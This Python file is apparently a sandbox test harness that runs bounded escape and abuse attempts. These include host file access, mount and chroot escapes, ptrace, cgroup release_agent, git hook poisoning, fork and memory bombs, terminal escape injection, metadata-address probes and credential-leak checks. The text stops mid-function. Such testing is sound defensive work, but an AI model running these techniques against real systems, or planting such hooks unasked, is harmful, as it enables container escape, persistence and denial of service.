#!/usr/bin/env python3
"""The hostile program. Run in the box with a file of bait and names of rows, it tries each in a
process of its own and prints {"name", "got", "why"}: got is what it has to show, or null.

A row is (class, name, function). A function returns something true when it got through; it
raises OSError, or returns nothing, when it did not. What succeeds does no lasting harm: values
are written back, bombs are small, calls that would stop the machine are made so that the kernel
refuses them after the wall (the rows of escape.py say so).
"""
import base64
import ctypes
import errno
import fcntl
import glob
import gzip
import json
import mmap
import os
import re
import resource
import signal
import socket
import ssl
import struct
import sys
import tempfile
import time
import urllib.parse

libc = ctypes.CDLL(None, use_errno=True)
BAIT = {}
ROWS = []
NEWNS, NEWUSER, NEWUTS, NEWTIME, NEWCGROUP, NEWNET, NEWPID = (
    0x20000, 0x10000000, 0x4000000, 0x80, 0x2000000, 0x40000000, 0x20000000)
AT_CWD = -100

# Rows that a kernel may not be built for, and why they then do not succeed without walls either. They are seen to, and
# held in the box, on one that is, by tools/try-kernel.
NEED_A_KERNEL = {
    "/proc and /sys: memory of the kernel in /proc/kcore": "the kernel may be built without it",
    "kexec: kexec_load": "the kernel may be built without it",
    "kexec: kexec_file_load": "the kernel may be built without it",
    "modules: init_module": "the kernel may be built without modules",
    "modules: finit_module": "the kernel may be built without modules",
    "modules: the program that loads them": "the kernel may be built without modules",
    "raw and netlink sockets: the kernel's cipher sockets": "the kernel may be built without them",
}


def attack(kind, name):
    def add(function):
        ROWS.append((kind, name, function))
        return function
    return add


def call(number, *args):
    """A raw system call; OSError when it fails."""
    ctypes.set_errno(0)
    got = libc.syscall(ctypes.c_long(number),
                       *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if got < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return got


def reached(number, *args):
    """Whether the call came as far as the kernel's own look at its arguments."""
    try:
        call(number, *args)
    except OSError as error:
        if error.errno in (errno.EPERM, errno.ENOSYS, errno.EACCES, errno.EAFNOSUPPORT):
            raise
        return "refused by its arguments alone: " + error.strerror
    return True


def text_of(path, size=4096):
    with open(path, "rb", buffering=0) as file:
        return file.read(size)


def has_secret(path):
    return BAIT["mark"].encode() in text_of(path)


def write_same(path):
    """Opens for writing and writes what stands there."""
    was = text_of(path)
    with open(path, "wb", buffering=0) as file:
        file.write(was)
    return True


def connects(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        one.send(b"hello")
        if kind == socket.SOCK_DGRAM:
            return one.recv(64) if family != socket.AF_UNIX else True
        return True


# ---- files of the host ----
F = "host files"


@attack(F, "by their path")
def _():
    return has_secret(BAIT["secret"])


@attack(F, "by .. from the work tree")
def _():
    return has_secret("../" * 40 + BAIT["secret"][1:])


@attack(F, "by a link that was in the work tree")
def _():
    return has_secret("link")


@attack(F, "by /proc/PID/root of every process")
def _():
    return any(try_it(lambda p=p: has_secret(p + BAIT["secret"])) for p in glob.glob("/proc/[0-9]*/root"))


@attack(F, "by /proc/PID/cwd of every process")
def _():
    return any(try_it(lambda p=p: has_secret(p + "/../outside/secret")) for p in glob.glob("/proc/[0-9]*/cwd"))


@attack(F, "by a hard link into the work tree")
def _():
    os.link(BAIT["secret"], "hard")
    return has_secret("hard")


@attack(F, "by a file handle")
def _():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call(303, AT_CWD, BAIT["secret"].encode() if os.path.exists(BAIT["secret"]) else b".", handle,
         ctypes.byref(mount), 0)
    base = os.open(".", os.O_RDONLY)
    fd = call(304, base, handle, os.O_RDONLY)
    return BAIT["mark"].encode() in os.read(fd, 4096)


@attack(F, "by an old mount under the root")
def _():
    return any(try_it(lambda p=p: has_secret(p + BAIT["secret"])) for p in ("/.old", "/oldroot", "/host", "/."))


@attack(F, "by renaming a folder of the host")
def _():
    os.rename(BAIT["outside"], BAIT["outside"] + "-moved")
    os.rename(BAIT["outside"] + "-moved", BAIT["outside"])
    return True


def try_it(function):
    try:
        return function()
    except OSError:
        return None


# ---- /proc and /sys ----
P = "/proc and /sys"


@attack(P, "a setting of /proc/sys")
def _():
    return write_same("/proc/sys/vm/swappiness")


@attack(P, "a setting through a descriptor of the folder")
def _():
    fd = os.open("/proc/sys/kernel", os.O_PATH)
    inner = os.open("panic", os.O_RDWR, dir_fd=fd)
    return os.write(inner, os.read(inner, 64))


@attack(P, "a setting of /sys")
def _():
    return write_same("/sys/kernel/mm/transparent_hugepage/khugepaged/scan_sleep_millisecs")


@attack(P, "the out-of-memory score of another process")
def _():
    return write_same(f"/proc/{BAIT['victim']}/oom_score_adj")


@attack(P, "memory of the kernel in /proc/kcore")
def _():
    return text_of("/proc/kcore", 64)[:4] == b"\x7fELF"


@attack(P, "the environment of host processes")
def _():
    return any(try_it(lambda p=p: has_secret(p)) for p in glob.glob("/proc/[0-9]*/environ"))


# ---- mount ----
@attack("mount", "mount(2) of a tmpfs")
def _():
    call(165, b"none", os.getcwd().encode(), b"tmpfs", 0, 0)
    return True


@attack("mount", "fsopen and fsmount")
def _():
    fd = call(430, b"tmpfs", 0)
    call(431, fd, 6, 0, 0, 0)
    return call(432, fd, 0, 0) >= 0


@attack("mount", "open_tree and move_mount")
def _():
    fd = call(428, AT_CWD, b"/", 1)
    call(429, fd, b"", AT_CWD, os.getcwd().encode(), 4)
    return os.path.exists(os.getcwd() + "/etc")


@attack("mount", "a fresh /proc")
def _():
    call(165, b"proc", os.getcwd().encode(), b"proc", 0, 0)
    return write_same(os.getcwd() + "/sys/vm/swappiness")


@attack("remount", "mount(2) with MS_REMOUNT")
def _():
    call(165, 0, b"/", 0, 0x20 | 0x1000, 0)
    return True


@attack("remount", "mount_setattr")
def _():
    call(442, AT_CWD, b"/", 0, ctypes.create_string_buffer(struct.pack("4Q", 0, 1, 0, 0)), 32)
    return True


@attack("remount", "fspick")
def _():
    return call(433, AT_CWD, b"/proc", 0) >= 0


@attack("remount", "umount2 of what hides something")
def _():
    call(166, b"/proc", 2)
    return True


@attack("pivot", "pivot_root")
def _():
    call(165, b"none", os.getcwd().encode(), b"tmpfs", 0, 0)
    os.chdir(os.getcwd())
    os.mkdir("old")
    call(155, b".", b"old")
    return True


@attack("pivot", "another root mounted over /")
def _():
    fd = call(428, AT_CWD, b"/usr", 1)
    call(429, fd, b"", AT_CWD, b"/", 4)
    return True


@attack("pivot", "the namespace of another process")
def _():
    fd = os.open(f"/proc/{BAIT['victim']}/ns/mnt", os.O_RDONLY)
    call(308, fd, NEWNS)
    return True


@attack("pivot", "umount2 of /")
def _():
    call(166, b"/", 2)
    return True


@attack("chroot", "chroot and .. from outside of it")
def _():
    os.makedirs("cage", exist_ok=True)
    os.chroot("cage")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return has_secret(BAIT["secret"])


@attack("chroot", "a folder's descriptor that was open before")
def _():
    fd = os.open("/", os.O_RDONLY)
    os.makedirs("cage", exist_ok=True)
    os.chroot("cage")
    os.fchdir(fd)
    os.chroot(".")
    return has_secret(BAIT["secret"])


@attack("chroot", "in a user namespace of one's own")
def _():
    call(272, NEWUSER)
    os.chroot(".")
    return True


# ---- other processes ----
@attack("ptrace", "attach")
def _():
    call(101, 16, BAIT["victim"], 0, 0)
    os.waitpid(BAIT["victim"], 0x40000000)
    call(101, 17, BAIT["victim"], 0, 0)
    return True


@attack("ptrace", "process_vm_readv")
def _():
    room = ctypes.create_string_buffer(64)
    with open(f"/proc/{BAIT['victim']}/maps", encoding="ascii") as maps:
        at = int(maps.readline().split("-")[0], 16)
    vector = struct.pack("QQ", ctypes.addressof(room), 64)
    return call(310, BAIT["victim"], vector, 1, struct.pack("QQ", at, 64), 1, 0)


@attack("ptrace", "/proc/PID/mem")
def _():
    return os.open(f"/proc/{BAIT['victim']}/mem", os.O_RDWR)


@attack("ptrace", "pidfd_getfd")
def _():
    pidfd = call(434, BAIT["victim"], 0)
    return call(438, pidfd, 0, 0) >= 0


S = "signal and renice"


@attack(S, "kill")
def _():
    os.kill(BAIT["victim"], signal.SIGWINCH)
    return True


@attack(S, "pidfd_send_signal")
def _():
    pidfd = call(434, BAIT["victim"], 0)
    call(424, pidfd, int(signal.SIGWINCH), 0, 0)
    return True


@attack(S, "the owner of a descriptor (F_SETOWN)")
def _():
    ends = os.pipe()
    fcntl.fcntl(ends[0], fcntl.F_SETOWN, BAIT["victim"])
    fcntl.fcntl(ends[0], 10, int(signal.SIGUSR2))       # F_SETSIG
    fcntl.fcntl(ends[0], fcntl.F_SETFL, os.O_ASYNC)
    os.write(ends[1], b"x")
    # whether it was sent is not told: where the victim gets it, the host is not as it was
    return not BAIT["scoped"]


@attack(S, "setpriority")
def _():
    os.setpriority(os.PRIO_PROCESS, BAIT["victim"], 19)
    return True


@attack(S, "prlimit")
def _():
    resource.prlimit(BAIT["victim"], resource.RLIMIT_CORE, (0, 0))
    return True


@attack(S, "the processors it may use")
def _():
    os.sched_setaffinity(BAIT["victim"], {0})
    return True


U = "user namespace"


@attack(U, "unshare")
def _():
    call(272, NEWUSER)
    return True


@attack(U, "clone")
def _():
    pid = call(56, NEWUSER | int(signal.SIGCHLD), 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True


@attack(U, "clone3")
def _():
    args = ctypes.create_string_buffer(struct.pack("11Q", NEWUSER, 0, 0, 0, int(signal.SIGCHLD),
                                                   0, 0, 0, 0, 0, 0))
    pid = call(435, args, 88)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True


@attack(U, "setns")
def _():
    return reached(308, os.open("/proc/self/ns/user", os.O_RDONLY), NEWUSER)


# ---- privileges ----
def run_it(*words):
    ends = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(ends[1], 1)
        try:
            os.execv(words[0], words)
        except OSError:
            os._exit(126)
    os.close(ends[1])
    out = b""
    while piece := os.read(ends[0], 4096):
        out += piece
    os.waitpid(pid, 0)
    return out.decode()


SHOW = ("import os; print(os.geteuid() != os.getuid(), os.getegid() != os.getgid(), "
        "open('/proc/self/status').read().split('CapEff:')[1].split()[0])")


@attack("setuid", "a setuid file in the work tree")
def _():
    return run_it("./setuid", "-I", "-c", SHOW)[:4] == "True"


@attack("setuid", "a setgid file in the work tree")
def _():
    return " True " in run_it("./setgid", "-I", "-c", SHOW)


@attack("setuid", "a file with capabilities")
def _():
    return int((run_it("./filecaps", "-I", "-c", SHOW).split() + ["0"] * 3)[2], 16) & (1 << 18)


@attack("setuid", "setresuid")
def _():
    os.setresuid(54321, 54321, 54321)
    return True


@attack("devices", "mknod and open")
def _():
    path = tempfile.mktemp()
    os.mknod(path, 0o600 | 0o020000, os.makedev(*BAIT["node"]))
    return os.open(path, os.O_RDONLY | os.O_NONBLOCK)


@attack("devices", "a node that was in the work tree")
def _():
    return os.open("node", os.O_RDONLY | os.O_NONBLOCK)


@attack("devices", "the nodes of a fresh devtmpfs")
def _():
    call(165, b"dev", os.getcwd().encode(), b"devtmpfs", 0, 0)
    return os.path.exists(os.getcwd() + "/kmsg")


@attack("devices", "the nodes that /dev has")
def _():
    usual = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr",
             "fd", "pts", "shm", "mqueue"}
    return [name for name in os.listdir("/dev") if name not in usual
            and try_it(lambda n=name: os.open("/dev/" + n, os.O_RDONLY | os.O_NONBLOCK))]


# ---- network ----
R = "raw and netlink sockets"


@attack(R, "packets (AF_PACKET)")
def _():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)


@attack(R, "raw ICMP")
def _():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack(R, "an interface by netlink")
def _():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        body = struct.pack("BBHiII", 0, 0, 0, 1, 1, 1)
        link.send(struct.pack("IHHII", 16 + len(body), 16, 5, 1, 0) + body)
        error = struct.unpack("i", link.recv(4096)[16:20])[0]
        if error:
            raise OSError(-error, os.strerror(-error))
        return True


@attack(R, "an address of an interface (ioctl)")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        fcntl.ioctl(one, 0x8914, struct.pack("16sh22x", b"lo", 0x49))
        return True


@attack(R, "kernel events by netlink")
def _():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15) as one:
        one.bind((0, 1))
        return True


@attack(R, "the kernel's cipher sockets")
def _():
    return reached(41, 38, 5, 0)


A = "sockets of the host"


@attack(A, "abstract, by a connection")
def _():
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + BAIT["abstract"])


@attack(A, "abstract, by a datagram")
def _():
    return connects(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + BAIT["abstract"] + "-dgram")


@attack(A, "abstract, by the list of /proc/net/unix")
def _():
    return BAIT["abstract"].encode() in text_of("/proc/net/unix", 1 << 20)


@attack(A, "by path")
def _():
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, BAIT["path_socket"])


@attack(A, "shared memory of System V")
def _():
    return call(29, BAIT["shm_key"], 4096, 0o666) >= 0


@attack("metadata address", "IPv4")
def _():
    return connects(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))


@attack("metadata address", "IPv6")
def _():
    return connects(socket.AF_INET6, socket.SOCK_STREAM, ("fd00:ec2::254", 80))


@attack("metadata address", "by a server on the host's loopback")
def _():
    return connects(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", BAIT["port"]))


@attack("DNS", "a datagram to a resolver")
def _():
    return connects(socket.AF_INET, socket.SOCK_DGRAM, ("203.0.113.53", 53))


@attack("DNS", "a connection to a resolver")
def _():
    return connects(socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.53", 53))


@attack("DNS", "the resolver of the C library")
def _():
    with open("/etc/resolv.conf", encoding="ascii") as file:
        server = ([line.split()[1] for line in file if line.startswith("nameserver")] or [None])[0]
    return server and connects(socket.AF_INET, socket.SOCK_DGRAM, (server, 53))


# ---- the kernel ----
K = "keyring"


@attack(K, "add_key")
def _():
    return call(248, b"user", b"sparks-escape", b"x", 1, -3)


@attack(K, "keyctl")
def _():
    return call(250, 1, 0)


@attack(K, "request_key")
def _():
    return reached(249, b"user", b"sparks-escape", 0, -3)


@attack("io_uring", "io_uring_setup")
def _():
    return call(425, 4, ctypes.create_string_buffer(120)) >= 0


@attack("io_uring", "io_uring_enter")
def _():
    return reached(426, 0, 1, 0, 0, 0, 0)


@attack("io_uring", "io_uring_register")
def _():
    return reached(427, 0, 0, 0, 0)


@attack("bpf", "a map")
def _():
    return call(321, 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112)), 128) >= 0


@attack("bpf", "a program")
def _():
    code = ctypes.create_string_buffer(bytes([0xb7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0]))
    word = ctypes.create_string_buffer(b"GPL")
    attr = struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(word)) + bytes(104)
    return call(321, 5, ctypes.create_string_buffer(attr), 128) >= 0


@attack("bpf", "an object of the host by its id")
def _():
    return reached(321, 11, ctypes.create_string_buffer(128), 128)


@attack("perf", "a counter of its own")
def _():
    return call(298, ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + bytes(96)), 0, -1, -1, 0) >= 0


@attack("perf", "a counter of the whole machine")
def _():
    return call(298, ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + bytes(96)), -1, 0, -1, 0) >= 0


@attack("perf", "addresses of the kernel")
def _():
    return any(not line.startswith(b"0000000000000000") for line in
               text_of("/proc/kallsyms", 4096).splitlines()[:20])


@attack("userfaultfd", "the system call")
def _():
    return call(323, 0) >= 0


@attack("userfaultfd", "the system call, for the user's pages alone")
def _():
    return call(323, 1) >= 0


@attack("userfaultfd", "a file system of one's own that makes the kernel wait")
def _():
    return os.open("/dev/fuse", os.O_RDWR)


@attack("kexec", "kexec_load")
def _():
    return reached(246, 0, 1, 0, 0)


@attack("kexec", "kexec_file_load")
def _():
    return reached(320, -1, -1, 0, 0, 0)


@attack("kexec", "reboot into what is loaded")
def _():
    return reached(169, 1, 2, 0x45584543, 0)


@attack("modules", "init_module")
def _():
    return reached(175, b"no module", 9, b"")


@attack("modules", "finit_module")
def _():
    return reached(313, os.open("hostile.py", os.O_RDONLY), b"", 0)


@attack("modules", "the program that loads them")
def _():
    return write_same("/proc/sys/kernel/modprobe" if os.path.exists("/proc/sys/kernel/modprobe")
                      else "/proc/sys/kernel/poweroff_cmd")


def own_terminal():
    os.setsid()
    _, slave = os.openpty()
    fcntl.ioctl(slave, 0x540E, 0)
    return slave


@attack("TIOCSTI", "typing into a terminal")
def _():
    fcntl.ioctl(own_terminal(), 0x5412, b"x")
    return True


@attack("TIOCSTI", "another line discipline")
def _():
    fcntl.ioctl(own_terminal(), 0x5423, struct.pack("i", 27))     # N_NULL: in every kernel of today
    return True


@attack("TIOCSTI", "the terminal of who started it")
def _():
    return os.open("/dev/tty", os.O_RDWR)


@attack("TIOCSTI", "the selection of the console")
def _():
    try:
        fcntl.ioctl(own_terminal(), 0x541C, b"\x02")
    except OSError as error:
        if error.errno in (errno.EPERM, errno.EACCES):
            raise
        return error.strerror
    return True


C = "core pattern"


@attack(C, "/proc/sys/kernel/core_pattern")
def _():
    return write_same("/proc/sys/kernel/core_pattern")


@attack(C, "a core file")
def _():
    resource.setrlimit(resource.RLIMIT_CORE, (1 << 24, 1 << 24))
    pid = os.fork()
    if pid == 0:
        os.abort()
    return os.WCOREDUMP(os.waitpid(pid, 0)[1])


@attack(C, "core_pattern by a mount of one's own")
def _():
    call(165, b"proc", os.getcwd().encode(), b"proc", 0, 0)
    return write_same(os.getcwd() + "/sys/kernel/core_pattern")


G = "cgroups"


@attack(G, "release_agent")
def _():
    call(165, b"none", os.getcwd().encode(), b"cgroup", 0, b"none,name=sparks-escape")
    with open("release_agent", "w", encoding="ascii") as file:
        file.write("/bin/true\n")
    return True


@attack(G, "leaving the group by cgroup.procs")
def _():
    path = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
    if not path:
        return None
    with open(path[0], "w", encoding="ascii") as file:
        file.write(str(os.getpid()))
    return True


@attack(G, "a cgroup namespace")
def _():
    call(272, NEWCGROUP)
    return True


# ---- clock and name ----
T = "clock"


@attack(T, "clock_settime")
def _():
    now = time.clock_gettime(0)
    return call(227, 0, struct.pack("qq", int(now), int(now % 1 * 1e9))) == 0


@attack(T, "settimeofday")
def _():
    now = time.time()
    return call(164, struct.pack("qq", int(now), int(now % 1 * 1e6)), 0) == 0


@attack(T, "adjtimex")
def _():
    state = ctypes.create_string_buffer(256)
    call(159, state)
    state[0:4] = struct.pack("I", 4)    # the largest error, as it is
    return call(159, state) >= 0


@attack(T, "offsets of a time namespace")
def _():
    reader, writer = os.pipe()
    if os.fork() == 0:      # only a process without threads may enter one
        def shift():
            call(272, NEWTIME)
            with open("/proc/self/timens_offsets", "w", encoding="ascii") as file:
                file.write("monotonic 1000 0")
            return True
        os.write(writer, b"y" if try_it(shift) else b"n")
        os._exit(0)
    os.close(writer)
    os.wait()
    return os.read(reader, 1) == b"y"


@attack(T, "how long the host has been up")
def _():
    with open("/proc/uptime", encoding="ascii") as file:
        seconds = float(file.read().split()[0])
    return abs(seconds - BAIT["uptime"]) < 60 or abs(time.clock_gettime(7) - BAIT["uptime"]) < 60


N = "host's name"


@attack(N, "sethostname")
def _():
    return call(170, b"owned", 5) == 0


@attack(N, "setdomainname")
def _():
    return call(171, b"owned", 5) == 0


@attack(N, "/proc/sys/kernel/hostname")
def _():
    return write_same("/proc/sys/kernel/hostname")


# ---- descriptors ----
D = "leaked descriptors"


@attack(D, "a file that was open outside")
def _():
    return any(try_it(lambda f=fd: BAIT["mark"].encode() in os.pread(f, 4096, 0)) for fd in range(3, 64))


@attack(D, "a folder that was open outside")
def _():
    for fd in range(0, 64):
        if try_it(lambda f=fd: os.open("secret", os.O_RDONLY, dir_fd=f)):
            return True
    return None


@attack(D, "the descriptors of other processes")
def _():
    return any(try_it(lambda p=p: os.path.isfile(p) and has_secret(p)) for p in glob.glob("/proc/[0-9]*/fd/*"))


@attack(D, "the environment it was started with")
def _():
    return BAIT["mark"] in " ".join(os.environ.values())


# ---- git; what counts is what the host's git does afterwards ----
GIT = "poisoned git"


@attack(GIT, "a program in .git/config")
def _():
    with open(".git/config", "a", encoding="ascii") as file:
        file.write(f'\n[core]\n\tfsmonitor = "touch {BAIT["poison"]}; false"\n')
    return True


@attack(GIT, "a hook")
def _():
    with open(".git/hooks/pre-commit", "w", encoding="ascii") as file:
        file.write(f"#!/bin/sh\ntouch {BAIT['poison']}\n")
    os.chmod(".git/hooks/pre-commit", 0o755)
    return True


@attack(GIT, "another folder in the place of .git")
def _():
    os.rename(".git", "old-git")
    os.rename("old-git", ".git")
    return True


@attack(GIT, "a folder of hooks by its link")
def _():
    os.symlink(os.getcwd(), ".git/hooks/inner")
    os.unlink(".git/hooks/inner")
    return True


# ---- bombs: bounded here, so that they do no harm where nothing else bounds them ----
def shared_counter():
    return mmap.mmap(-1, 8)


def count_alive(make, most):
    """How many processes `make` brings to life at once."""
    made = 0
    try:
        for made in range(most):
            make()
    except OSError:
        pass
    return made + 1


def sleeper():
    pid = os.fork()
    if pid == 0:
        time.sleep(8)
        os._exit(0)
    return pid


@attack("fork bomb", "processes")
def _():
    return count_alive(sleeper, 400) >= 400


@attack("fork bomb", "threads")
def _():
    import threading
    for _ in range(400):
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
    time.sleep(0.3)
    return True


@attack("fork bomb", "processes that are replaced by their children")
def _():
    count = shared_counter()

    def hop(depth):
        while depth:
            count[0:4] = struct.pack("I", struct.unpack("I", count[0:4])[0] + 1)
            if os.fork():
                time.sleep(40)
                os._exit(0)
            depth -= 1
        os._exit(0)
    pid = os.fork()
    if pid == 0:
        hop(266)     # [box] pids and a few more; deeper ones get slow
    hops = still = 0
    while still < 30 and hops < 264:    # until there are no more for three seconds
        time.sleep(0.1)
        before, hops = hops, struct.unpack("I", count[0:4])[0]
        still = still + 1 if hops == before else 0
    if hops >= 264:
        return True
    raise OSError(0, f"only {hops}")


@attack("zombie flood", "children nobody waits for")
def _():
    def zombie():
        if os.fork() == 0:
            os._exit(0)
    if count_alive(zombie, 400) < 400:
        return None
    for _ in range(20):     # the last ones may not have ended yet
        if len(zombies()) >= 390:
            return True
        time.sleep(0.1)
    return None


def zombies():
    found = []
    for path in glob.glob("/proc/[0-9]*/stat"):
        try:
            if text_of(path).rsplit(b") ", 1)[1][:1] == b"Z":
                found.append(path)
        except (OSError, IndexError):
            pass
    return found


@attack("zombie flood", "of a stopped parent")
def _():
    parent = os.fork()
    if parent == 0:
        for _ in range(400):
            try:
                if os.fork() == 0:
                    os._exit(0)
            except OSError:
                break
        os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(1.5)
    return len(zombies()) >= 390


@attack("zombie flood", "orphans faster than they are reaped")
def _():
    for _ in range(1500):
        pid = os.fork()
        if pid == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)
        os.waitpid(pid, 0)
    return len(zombies()) >= 256


PIECE = 4 << 20


@attack("memory bomb", "pages of one process")
def _():
    held = []
    for _ in range(96):
        held.append(bytearray(PIECE))
        time.sleep(0.004)
    return True


@attack("memory bomb", "a little of many processes")
def _():
    pids = []
    for _ in range(24):
        pids.append(os.fork())
        if pids[-1] == 0:
            held = bytearray(4 * PIECE)
            held[::4096] = b"x" * (len(held) // 4096)
            time.sleep(3)
            os._exit(0)
    time.sleep(1.5)
    return all(os.waitpid(pid, os.WNOHANG)[0] == 0 for pid in pids)


def linger():
    """For the watch to look, on a machine that is busy, too."""
    time.sleep(2)


@attack("memory bomb", "files without a name (memfd)")
def _():
    piece = bytes(PIECE)
    held = [os.memfd_create(str(i)) for i in range(8)]
    for fd in held:
        for _ in range(12):
            os.write(fd, piece)
            time.sleep(0.004)
    linger()
    return True


@attack("memory bomb", "shared memory nobody has attached")
def _():
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(24):
        made = call(29, 0, 4 * PIECE, 0o1600)
        at = libc.shmat(made, None, 0)
        if at in (None, ctypes.c_void_p(-1).value):
            return None
        ctypes.memset(at, 1, 4 * PIECE)
        call(67, ctypes.c_void_p(at))
        time.sleep(0.02)
    linger()
    return True


def fill(folder, pieces):
    with open(folder + "/big", "wb", buffering=0) as file:
        for _ in range(pieces):
            file.write(bytes(PIECE))
    return True


@attack("memory bomb", "datagrams that nobody reads")
def _():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held, total = [], 0
    try:
        while total < 384 << 20:
            held.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
            held[-1][0].setblocking(False)
            try:
                while True:
                    total += held[-1][0].send(bytes(65536))
            except BlockingIOError:
                time.sleep(0.0005)
    except OSError:
        pass
    time.sleep(0.1)
    return total >= 384 << 20


@attack("disk bomb", "one large file")
def _():
    return fill(".", 64)


@attack("disk bomb", "a file in /tmp")
def _():
    return fill("/tmp", 64)


@attack("disk bomb", "many files in the work tree")
def _():
    os.mkdir("many")
    for i in range(48):
        with open(f"many/{i}", "wb", buffering=0) as file:
            file.write(bytes(2 * PIECE))
        time.sleep(0.004)
    linger()
    return True


@attack("inode bomb", "files in the work tree")
def _():
    os.mkdir("inodes")
    for i in range(30000):
        os.close(os.open(f"inodes/{i}", os.O_CREAT | os.O_WRONLY))
    linger()
    return True


@attack("inode bomb", "files in /tmp")
def _():
    top = tempfile.mkdtemp(dir="/tmp")
    for i in range(70000):
        os.close(os.open(f"{top}/{i}", os.O_CREAT | os.O_WRONLY))
    return True


@attack("inode bomb", "links in shared memory")
def _():
    top = tempfile.mkdtemp(dir="/dev/shm")
    for i in range(70000):
        os.symlink("x", f"{top}/{i}")
    return True


@attack("output bomb", "stdout")
def _():
    for _ in range(100):
        os.write(1, b"x" * (1 << 20))
    return True


@attack("output bomb", "stderr")
def _():
    for _ in range(100):
        os.write(2, b"x" * (1 << 20))
    return True


@attack("output bomb", "a process that was left behind")
def _():
    if os.fork() == 0:
        os.setsid()
        for _ in range(100):
            os.write(1, b"x" * (1 << 20))
        os._exit(0)
    time.sleep(2)
    return True


# ---- survival: what counts is who is alive outside when the box has ended ----
V = "survival"


def leave_groups():
    """Out of the control group, which an engine ends as a whole."""
    for path in glob.glob("/sys/fs/cgroup/cgroup.procs") + glob.glob("/sys/fs/cgroup/*/cgroup.procs"):
        try_it(lambda p=path: os.close(os.open(p, os.O_WRONLY)) or open(p, "w", encoding="ascii").write(str(os.getpid())))


def stay():
    leave_groups()
    os.execvp("sleep", ["sleep", BAIT["stay"]])


@attack(V, "a daemon by two forks and setsid")
def _():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            stay()
        os._exit(0)
    os.wait()
    return True


@attack(V, "a process that ignores every signal")
def _():
    if os.fork() == 0:
        os.setpgid(0, 0)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        call(157, 1, 0)     # no signal when the parent dies
        stay()
    time.sleep(0.1)
    return True


@attack(V, "a stopped process")
def _():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        stay()
    time.sleep(0.1)
    os.kill(pid, signal.SIGSTOP)
    return True


@attack(V, "a process that a debugger holds")
def _():
    pid = os.fork()
    if pid == 0:
        call(101, 0, 0, 0, 0)
        os.setsid()
        stay()
    os.waitpid(pid, 0)
    return True


E = "terminal escapes"


@attack(E, "a title and a cleared screen in stdout")
def _():
    os.write(1, b"\x1b]0;owned\x07\x1b[2J\n")
    return True


@attack(E, "the clipboard in stderr")
def _():
    os.write(2, b"\x1b]52;c;b3duZWQ=\x07\n")
    return True


@attack(E, "a sequence cut in two")
def _():
    os.write(1, b"a\x1b")
    time.sleep(0.3)
    os.write(1, b"]0;owned\x07b\n")
    return True


@attack(E, "the name of a command that is not there")
def _():
    os.execvp("/bin/sh", ["sh", "-c", "\x1b[5mowned"])


# ---- keys that are used outside, by a proxy ----
K = "credentials"
PROXY = ("127.0.0.1", 61080)
LITTLE = 1 << 20


def leaks(data):
    """Whether the key is in it, however it is written."""
    text = data.decode("latin-1")
    key = BAIT["forge"]["key"][::-1]
    forms = [text, urllib.parse.unquote(text), text.replace("\\/", "/")]
    forms += [bytes.fromhex(one[:len(one) & ~1]).decode("latin-1") for one in re.findall("[0-9a-fA-F]{16,}", text)]
    forms += [base64.b64decode(one[i:len(one) - (len(one) - i) % 4]).decode("latin-1") for one in re.findall("[0-9A-Za-z+/]{16,}", text)
              for i in range(4)]
    return key[4:-2] if any(key[4:-2] in form for form in forms) else None


def ask(text, link=None):
    """All that comes for it."""
    with link or socket.create_connection(PROXY, 5) as one:
        one.sendall(text.encode())
        data = b""
        while piece := one.recv(65536):
            data += piece
    return data


def by_route(path, *headers, method="GET", route=None, host="127.0.0.1:61080"):
    """Of the task's own base URL."""
    token = urllib.parse.urlsplit(route or os.environ.get("FORGE_URL", "http://127.0.0.1:61080/sparks-none")).path
    lines = [f"{method} {token}{path} HTTP/1.1", "Host: " + host, *headers, "Connection: close", "", ""]
    return ask("\r\n".join(lines))


def in_tunnel(host, asked, name="localhost", path="/echo", key="of the attacker"):
    link = socket.create_connection(PROXY, 5)
    link.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    if b" 200 " not in link.recv(1000):
        return b""
    secure = ssl._create_unverified_context().wrap_socket(link, server_hostname=name)
